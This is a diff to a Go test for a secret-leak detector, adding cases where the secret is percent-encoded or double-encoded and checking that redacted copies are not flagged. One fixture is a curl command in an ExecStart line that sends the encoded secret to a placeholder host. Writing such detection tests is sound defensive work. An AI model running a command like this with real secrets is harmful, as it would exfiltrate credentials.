@@ -48,6 +48,9 @@ func TestFind(t *testing.T) {
 		{"gzip file", string(gz(node)), "gzip at 0 → plain"},
 		{"url-safe base64 unpadded, off alignment", "token=" + base64.RawURLEncoding.EncodeToString(append([]byte("ab"), node...)), "base64"},
 		{"line-wrapped base64", "blob: |\n  " + strings.Join(lines, "\n  ") + "\n", "base64"},
+		{"percent-encoded query", "ExecStart=/usr/bin/curl https://x.test/join?t=abcdef." + escapeAll([]byte(secret)) + "&x=1\n", "percent-encoded at 24 → plain"},
+		{"percent-encoded, partly", "token: " + secret[:4] + "%" + strings.ToUpper(hex.EncodeToString([]byte(secret[4:5]))) + secret[5:], "percent-encoded at 7 → plain"},
+		{"percent-encoded base64", "t=" + strings.ReplaceAll(base64.StdEncoding.EncodeToString(node), "=", "%3D"), "base64"},
 		{"base64 of gzip of base64", base64.StdEncoding.EncodeToString(gz([]byte(base64.StdEncoding.EncodeToString(node)))), "gzip at 0 → base64 at 0 → plain"},
 	} {
 		got := Find([]byte(tc.data), []byte(secret))
@@ -56,7 +59,8 @@ func TestFind(t *testing.T) {
 		}
 	}
 	redacted := bytes.ReplaceAll(node, []byte(secret), []byte("redacted"))
-	for _, clean := range [][]byte{redacted, gz(redacted), []byte("data:;base64," + base64.StdEncoding.EncodeToString(redacted))} {
+	for _, clean := range [][]byte{redacted, gz(redacted), []byte("data:;base64," + base64.StdEncoding.EncodeToString(redacted)),
+		[]byte("q=" + escapeAll(redacted)), []byte("100%" + secret[:8] + "%zz" + secret[8:])} {
 		if got := Find(clean, []byte(secret)); got != "" {
 			t.Errorf("a redacted copy was found: %q", got)
 		}
